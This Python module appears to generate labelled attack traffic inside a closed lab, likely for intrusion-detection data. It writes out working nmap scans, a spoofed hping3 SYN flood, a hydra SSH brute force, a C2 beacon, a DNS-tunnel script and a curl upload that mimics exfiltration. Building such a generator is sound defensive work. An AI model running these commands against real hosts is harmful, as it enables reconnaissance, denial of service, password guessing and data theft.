"""Attacks on the lab's own hosts, by real tools where there is one; each is bounded in count and time.

Every function runs one attack from `attacker` to its end and returns the
`Attack` that says what was done, when, and between whom: the ground truth.
"""

from __future__ import annotations

import random
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from lab import programs
from lab.network import Host

#: Passwords that match nothing here, in the order they are tried.
_WORDS = (
    "admin",
    "password",
    "letmein",
    "welcome",
    "summer",
    "winter",
    "qwerty",
    "dragon",
    "monkey",
    "secret",
)


@dataclass
class Attack:
    """One labelled stretch of time. `packets` is filled in from the capture."""

    label: str
    attacker: str
    victim: str
    start: float
    end: float
    packets: int = 0
    kind: str = "attack"


def _timed(label: str, attacker: str, victim: str, action: Callable[[], object]) -> Attack:
    start = time.time()
    action()
    return Attack(label, attacker, victim, start, time.time())


def syn_scan(attacker: Host, victim: str, ports: int = 1500, rate: int = 150) -> Attack:
    """SYN scan of the lowest `ports` TCP ports, at most `rate` probes a second (T1046)."""
    argv = (
        "nmap",
        "-sS",
        "-Pn",
        "-n",
        "--max-retries",
        "1",
        "--max-rate",
        str(rate),
        "-p",
        f"1-{ports}",
        victim,
    )
    return _timed("portscan:syn", attacker.address, victim, lambda: attacker.run(*argv, timeout=120))


def udp_scan(attacker: Host, victim: str, ports: int = 200, rate: int = 50) -> Attack:
    """UDP scan of the lowest `ports` ports (T1046)."""
    argv = (
        "nmap",
        "-sU",
        "-Pn",
        "-n",
        "--max-retries",
        "0",
        "--max-rate",
        str(rate),
        "-p",
        f"1-{ports}",
        victim,
    )
    return _timed("portscan:udp", attacker.address, victim, lambda: attacker.run(*argv, timeout=300))


def host_sweep(attacker: Host, network: str = "10.20.0.0/24", port: int = 445) -> Attack:
    """One TCP port on every address of a network: ARP and SYN (T1018)."""
    argv = ("nmap", "-sS", "-n", "--max-retries", "0", "--max-rate", "100", "-p", str(port), network)
    return _timed("hostsweep:syn", attacker.address, network, lambda: attacker.run(*argv, timeout=120))


def slow_scan(attacker: Host, victim: str, ports: int = 60, delay_secs: float = 3.0) -> Attack:
    """A scan that waits `delay_secs` between probes, in random port order (T1046)."""
    argv = ("nmap", "-sS", "-Pn", "-n", "--max-retries", "0", "--scan-delay", f"{delay_secs}s")
    limit = ports * delay_secs * 2 + 30
    whole = (*argv, "-p", f"1-{ports}", victim)
    return _timed("portscan:slow", attacker.address, victim, lambda: attacker.run(*whole, timeout=limit))


def syn_flood(
    attacker: Host, victim: str, packets: int = 20_000, rate: int = 1500, *, spoofed: bool = True
) -> Attack:
    """SYN flood of port 80, about `rate` packets a second, from random sources if `spoofed` (T1498.001)."""
    argv = ["hping3", "-q", "-S", "-p", "80", "-c", str(packets), "-i", f"u{1_000_000 // rate}"]
    argv += ["--rand-source"] if spoofed else []
    argv.append(victim)

    def flood() -> None:
        # hping3 ends with status 1 when answers are missing, which is what a flood is about.
        subprocess.run(attacker.argv(argv), capture_output=True, check=False, timeout=10 + 3 * packets / rate)

    return _timed("ddos:synflood", "-" if spoofed else attacker.address, victim, flood)


def ssh_brute_force(
    attacker: Host, victim: str, folder: Path, tries: int = 100, *, wait_secs: int = 32, seed: int = 7
) -> Attack:
    """Password guesses against SSH by hydra, four at a time; none is right (T1110.001).

    `wait_secs` is hydra's pause when the server hangs up, 32 by default: a slow attack, unless lowered.
    """
    rng = random.Random(seed)
    words = folder / "words.txt"
    words.write_text("".join(f"{rng.choice(_WORDS)}{number}\n" for number in range(tries)))
    options = ("-I", "-l", "admin", "-P", str(words), "-t", "4", "-w", str(wait_secs))
    argv = ("hydra", *options, f"ssh://{victim}")

    def guess() -> None:
        # hydra writes hydra.restore where it stands, and its status says nothing about the tries.
        subprocess.run(attacker.argv(argv), capture_output=True, check=False, timeout=300, cwd=folder)

    return _timed("bruteforce-ssh", attacker.address, victim, guess)


def beacon(
    infected: Host,
    server: str,
    every_secs: float = 10,
    jitter: float = 0.05,
    seconds: float = 300,
    seed: int = 3,
) -> tuple[Attack, subprocess.Popen[bytes]]:
    """Start calls home over HTTPS every `every_secs` (T1071.001); they end by themselves.

    Unlike the other attacks this one returns at once, with its process; its
    end is known only when the process has ended.
    """
    start = time.time()
    argv = (server, str(every_secs), str(jitter), str(seconds), str(seed))
    process = programs.python(infected, "lab.beacon", *argv)
    return Attack("c2-beacon:https", infected.address, server, start, start + seconds), process


def dns_tunnel(infected: Host, queries: int = 300, rate: float = 10, seed: int = 5) -> Attack:
    """Data carried out in the labels of DNS questions (T1048.003)."""
    code = (
        "import random,socket,struct,sys,time\n"
        "q,rate,seed,server=int(sys.argv[1]),float(sys.argv[2]),int(sys.argv[3]),sys.argv[4]\n"
        "rng=random.Random(seed)\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "for n in range(q):\n"
        "    part=rng.randbytes(28).hex().encode()\n"
        "    name=b''.join(bytes([len(x)])+x for x in (part,b't',b'updates',b'example'))+b'\\0'\n"
        "    s.sendto(struct.pack('!HHHHHH',n,0x100,1,0,0,0)+name+struct.pack('!HH',16,1),(server,53))\n"
        "    time.sleep(rng.expovariate(rate))\n"
    )
    argv = (sys.executable, "-c", code, str(queries), str(rate), str(seed), "10.20.0.1")
    limit = 30 + 3 * queries / rate
    return _timed("dns-tunnel", infected.address, "10.20.0.1", lambda: infected.run(*argv, timeout=limit))


def exfiltrate(infected: Host, server: str, size_bytes: int = 2_000_000, rate: str = "400k") -> Attack:
    """One large upload to an address nobody talks to (T1048.002)."""
    argv = ("curl", "-s", "-k", "--limit-rate", rate, "-o", "/dev/null", "--data-binary", "@-")
    shell = f"head -c {size_bytes} /dev/zero | {' '.join(argv)} https://{server}/upload"
    return _timed(
        "exfil:https", infected.address, server, lambda: infected.run("sh", "-c", shell, timeout=120)
    )
